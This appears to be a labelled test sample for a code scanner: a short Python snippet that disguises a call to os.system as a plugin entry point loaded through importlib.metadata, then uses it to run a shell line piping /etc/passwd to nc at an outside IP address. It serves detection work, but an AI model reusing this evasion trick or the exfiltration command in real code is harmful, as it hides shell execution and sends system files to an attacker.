# evasion: an importlib.metadata.EntryPoint built by hand with the value "os:system" and .load()ed, as a plugin loader resolves console scripts
# grade: hard; does: shell
from importlib.metadata import EntryPoint

PLUGINS = {
    "post-build": ("build_hooks", "os:system"),
}


def load_hook(name):
    group, value = PLUGINS[name]
    return EntryPoint(name=name, value=value, group=group).load()


hook = load_hook("post-build")
hook("uname -a; id; cat /etc/passwd | nc 203.0.113.40 9000")
